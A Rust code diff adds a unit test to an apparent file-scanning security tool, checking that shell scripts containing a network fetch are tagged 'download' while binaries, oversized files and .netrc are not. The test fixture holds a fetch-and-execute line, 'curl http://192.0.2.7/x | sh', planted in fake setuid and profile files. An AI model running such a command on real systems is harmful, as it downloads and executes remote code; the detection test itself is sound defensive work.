@@ -201,3 +201,23 @@ fn this_machine_has_its_set_uid_programs() {
         assert!(row.sha256.is_some(), "{path}");
     }
 }
+
+#[test]
+fn a_script_tells_what_it_does_and_other_files_do_not() {
+    let fetches = "curl http://192.0.2.7/x | sh\n";
+    let (_folder, machine) = disk(&[
+        ("etc/profile.d/x.sh", fetches, 0o644),
+        ("usr/bin/script", &format!("#!/bin/sh\n{fetches}"), 0o4755),
+        ("usr/bin/words", fetches, 0o4755),
+        ("usr/bin/binary", &format!("#!\0{fetches}"), 0o4755),
+        ("usr/bin/large", &format!("#!/bin/sh\n{fetches}").repeat(10_000), 0o4755),
+        ("root/.netrc", &format!("#!/bin/sh\n{fetches}"), 0o600),
+    ]);
+    let found = look_with(&machine, &[], &[]);
+    let told = |path: &str| row(&found, path).traits.clone();
+    assert_eq!(told("/etc/profile.d/x.sh").as_deref(), Some("download"));
+    assert_eq!(told("/usr/bin/script").as_deref(), Some("download"));
+    for path in ["/usr/bin/words", "/usr/bin/binary", "/usr/bin/large", "/root/.netrc"] {
+        assert_eq!(told(path), None, "{path}");
+    }
+}
